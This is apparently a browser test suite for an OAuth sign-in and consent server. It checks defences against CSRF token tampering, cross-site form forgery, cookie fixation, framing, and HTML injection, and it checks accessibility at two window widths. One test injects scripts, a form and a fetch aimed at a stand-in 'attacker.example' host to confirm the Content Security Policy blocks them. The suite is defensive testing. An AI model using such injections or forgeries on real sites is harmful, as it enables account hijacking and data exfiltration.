// The pages in Chromium: what other sites and hostile clients try, how the pages look, and whom they leave out.

import { HOSTILE, arrivals } from './identity_browser.mjs';
import { equal, expect } from './identity_tools.mjs';

// The narrowest window that has to do (WCAG 2.2, 1.4.10), and a large one.
const WINDOWS = { 320: { width: 320, height: 640 }, 1000: { width: 1000, height: 800 } };
const SMALLEST = 24; // of a target, in CSS pixels (WCAG 2.2, 2.5.8)

export async function judgeDefences(all) {
  await judgeForgery(all);
  await judgeFrames(all);
  await judgePolicy(all);
  for (const [width, window] of Object.entries(WINDOWS)) await judgeLooks(all, width, window);
}

async function judgeForgery({ checks, person, client, app, site }) {
  const hidden = (person, name) => person.page.$eval(`input[name=${name}]`, (input) => input.value);
  await checks.check('a form whose token was changed decides nothing, and the real one still does', () =>
    person(async (ada) => {
      const all = await arrivals(site, async () => {
        await ada.toConsent(await client().request());
        const url = ada.page.url();
        await ada.page.$eval('input[name=csrf]', (input) => (input.value = `x${input.value.slice(1)}`));
        await ada.press('button[value=allow]');
        equal([ada.status, await ada.title()], [403, 'Not from here'], 'the page');
        await ada.picture('not-from-here');
        await ada.go(url);
        await ada.press('button[value=allow]');
      });
      equal(all.length, 1, 'the number of answers');
    }),
  );
  await checks.check('the form of another site, even with the stolen token', () =>
    person(async (ada) => {
      const all = await arrivals(site, async () => {
        await ada.toConsent(await client().request());
        const consent = ada.page.url();
        const fields = { request: await hidden(ada, 'request'), csrf: await hidden(ada, 'csrf'), decision: 'allow' };
        const action = new URL('/consent', consent).href;
        await ada.go(`${app}/forge?${new URLSearchParams({ action, ...fields })}`);
        await ada.press('button');
        equal([ada.status, await ada.title()], [403, 'Not from here'], 'the page');
      });
      equal(all.length, 0, 'the number of answers');
    }),
  );
  await checks.check('the address of a page, in another browser', () =>
    person((ada) =>
      person(async (mallory) => {
        await ada.toConsent(await client().request());
        await mallory.toConsent(await client().request());
        await mallory.go(ada.page.url());
        equal(mallory.status, 410, 'the status');
        await mallory.isOver();
      }),
    ),
  );
  await checks.check('signing in changes the cookie: one that was planted is worth nothing', () =>
    person(async (ada) => {
      const cookie = async () => (await ada.context.cookies()).find(({ name }) => name === 'browser');
      await ada.go(await client().request());
      const planted = await cookie();
      await ada.signIn();
      const real = await cookie();
      expect(planted.value !== real.value, 'the cookie is the same');
      equal([real.httpOnly, real.sameSite], [true, 'Lax'], 'the cookie');
      const consent = ada.page.url();
      await ada.context.setCookie(planted);
      await ada.go(consent);
      await ada.isOver();
    }),
  );
}

async function judgeFrames({ checks, person, client, app }) {
  for (const name of ['sign-in', 'consent']) {
    await checks.check(`the page ${name} in a frame of another origin does not load`, () =>
      person(async (ada) => {
        const url = await client().request();
        await (name === 'consent' ? ada.toConsent(url) : ada.go(url));
        const page = ada.page.url();
        await ada.go(`${app}/frame?${new URLSearchParams({ of: page })}`);
        const frame = ada.page.frames()[1];
        equal([frame?.url(), await frame?.$$eval('form', (all) => all.length)], ['chrome-error://chromewebdata/', 0], 'the frame');
        const told = ada.complaints.find((text) => text.includes('frame-ancestors'));
        expect(told, `nothing says why: ${ada.complaints.join('\n')}`);
        return told.slice(0, 60);
      }),
    );
  }
}

async function judgePolicy({ checks, person, client, app, resource }) {
  const hostile = (party) => Object.assign(party, { client: { client_id: `${app}/hostile.json` } });
  await checks.check('a client with HTML for a name is shown as text', () =>
    person(async (ada) => {
      await ada.toConsent(await hostile(client()).request());
      expect((await ada.text()).includes(HOSTILE), await ada.text());
      equal(await ada.page.$$eval('img, script', (all) => all.length), 0, 'the number of its elements');
      await ada.picture('hostile-name');
      ada.noComplaints();
    }),
  );
  await checks.check('if HTML got in all the same, the policy stops scripts, images and forms', () =>
    person(async (ada) => {
      await ada.toConsent(await client().request());
      const stopped = await ada.page.evaluate(async (foreign) => {
        const seen = new Set();
        document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective));
        const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
        add('script', { textContent: 'globalThis.injected = true' });
        add('script', { src: `${foreign}/x.js` });
        add('img', { src: `${foreign}/x.png` });
        add('iframe', { src: foreign });
        add('base', { href: foreign });
        add('form', { action: 'https://attacker.example/', id: 'out' });
        document.getElementById('out').submit();
        await fetch(foreign).catch(() => {});
        await new Promise((resolve) => setTimeout(resolve, 300));
        return [globalThis.injected, ...[...seen].sort()];
      }, 'http://attacker.example');
      const all = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem'];
      equal(stopped, [null, ...all], 'what was stopped');
      return all.join(' ');
    }),
  );
  await checks.check('no page has a script, or anything from elsewhere', () =>
    person(async (ada) => {
      const issuer = new URL(resource).origin;
      const requested = new Set();
      ada.page.on('request', (request) => requested.add(`${request.resourceType()} ${new URL(request.url()).origin}`));
      const bare = async () => {
        const found = await ada.page.$$eval('*', (all) =>
          all.filter((one) => one.matches('script, link, img, iframe') || [...one.attributes].some(({ name }) => /^on/.test(name))).length,
        );
        equal(found, 0, `the number of such elements on ${await ada.title()}`);
      };
      await ada.go(await client().request());
      await bare();
      await ada.signIn();
      await bare();
      await ada.go(`${issuer}/consent?request=none`);
      await bare();
      await ada.go(`${issuer}/oauth2/authorize`);
      await bare();
      equal([...requested], [`document ${issuer}`], 'what was requested');
      ada.noComplaints();
    }),
  );
}

async function judgeLooks({ checks, person, client, app, resource }, width, window) {
  const look = (name, arrive) =>
    checks.check(`${name}, ${width} px wide: nothing is cut off, accessible`, () =>
      person(async (ada) => {
        await arrive(ada);
        const { scroll, cut, small } = await ada.page.evaluate((smallest) => {
          const root = document.documentElement;
          const visible = [...document.querySelectorAll('main *')].filter((one) => one.offsetWidth && one.type !== 'hidden');
          const outside = ({ left, right }) => left < 0 || right > root.clientWidth + 0.5;
          const targets = visible.filter((one) => one.matches('button, input'));
          return {
            scroll: root.scrollWidth - root.clientWidth,
            cut: visible.filter((one) => outside(one.getBoundingClientRect())).map((one) => one.outerHTML.slice(0, 100)),
            small: targets.filter((one) => one.getBoundingClientRect().height < smallest).map((one) => one.outerHTML.slice(0, 100)),
          };
        }, SMALLEST);
        await ada.picture(`${name.replaceAll(/\W+/g, '-')}-${width}`);
        equal({ scroll, cut, small }, { scroll: 0, cut: [], small: [] }, 'what does not fit');
        for (const input of await ada.page.$$('input:not([type=hidden])')) {
          const label = await input.evaluate((one) => [one.labels.length, one.labels[0]?.textContent, one.labels[0]?.htmlFor === one.id]);
          expect(label[0] === 1 && label[1] && label[2], `the label of an input: ${label}`);
        }
        const passed = await ada.accessible();
        ada.noComplaints();
        return `${passed} rules of axe-core`;
      }, window),
    );
  const issuer = new URL(resource).origin;
  await look('sign-in', async (ada) => ada.go(await client().request()));
  await look('sign-in with an error', async (ada) => {
    await ada.go(await client().request());
    await ada.signIn('ada', 'not the password');
  });
  await look('consent', async (ada) => ada.toConsent(await client().request({ scope: undefined })));
  await look('consent with long names', async (ada) => {
    const party = client();
    party.client = { client_id: `${app}/${'long'.repeat(40)}.json` };
    await ada.toConsent(await party.request());
  });
  await look('request is over', async (ada) => ada.go(`${issuer}/consent?request=none`));
  await look('cannot be done', async (ada) => ada.go(`${issuer}/oauth2/authorize?client_id=nobody`));
}
